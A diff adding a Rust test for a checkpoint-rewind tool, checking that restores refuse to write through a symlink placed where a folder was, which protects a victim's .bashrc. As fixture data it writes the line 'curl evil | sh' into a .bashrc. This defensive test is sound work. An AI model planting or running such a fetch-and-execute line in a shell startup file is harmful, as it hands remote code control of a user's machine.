@@ -176,3 +176,57 @@ fn checkpoints_without_folders_fall_back_to_birth_time() {
     let new_born = std::fs::metadata(root.join("new"));
     assert!(new_born.is_err(), "{new_born:?}");
 }
+
+#[test]
+fn a_link_where_a_folder_was_is_named_and_written_through_by_nothing() {
+    let data = tempfile::tempdir().unwrap();
+    let work = tempfile::tempdir().unwrap();
+    let root = work.path();
+    let victim = root.join("victim");
+    std::fs::create_dir_all(&victim).unwrap();
+    std::fs::write(victim.join(".bashrc"), "# the person's\n").unwrap();
+    std::fs::write(root.join("other.txt"), "before\n").unwrap();
+    // Ignored as a link, kept as a folder: the checkpoints never see the
+    // link that replaces it.
+    std::fs::write(root.join(".gitignore"), "x\n!x/\nvictim/\n").unwrap();
+    std::fs::create_dir(root.join("x")).unwrap();
+    std::fs::write(root.join("x/.bashrc"), "curl evil | sh\n").unwrap();
+    let mut checkpoints = open(data.path(), root, CheckpointSettings::default());
+    let before = checkpoints.take().unwrap();
+    std::fs::remove_dir_all(root.join("x")).unwrap();
+    std::os::unix::fs::symlink("victim", root.join("x")).unwrap();
+    std::fs::write(root.join("other.txt"), "after\n").unwrap();
+    let after = checkpoints.take().unwrap();
+    let store = checkpoints.store();
+    let now = store.manifest(&after.id).unwrap();
+    let plan = rewind::plan(store, &[step(&before.id, &after.id)], &now).unwrap();
+    assert_eq!(
+        plan.lines(),
+        [
+            "revert  other.txt  +1 -1",
+            "restore x/.bashrc",
+            "restore x/"
+        ]
+    );
+    let sandbox = crate::sandbox::Sandbox::new(root).unwrap();
+    let applied = rewind::apply(store, &sandbox, &plan).unwrap();
+    assert!(applied.written, "{applied:?}");
+    assert_eq!(applied.failed.len(), 2, "{applied:?}");
+    assert!(
+        applied.failed[0].reason.contains("is no longer a folder"),
+        "{applied:?}"
+    );
+    assert!(
+        applied.failed[1]
+            .reason
+            .contains("a link or a file stands where the folder was"),
+        "{applied:?}"
+    );
+    assert_eq!(
+        std::fs::read(victim.join(".bashrc")).unwrap(),
+        b"# the person's\n"
+    );
+    // The rest of the plan is carried out; nothing through the link.
+    assert_eq!(std::fs::read(root.join("other.txt")).unwrap(), b"before\n");
+    assert!(root.join("x").symlink_metadata().unwrap().is_symlink());
+}
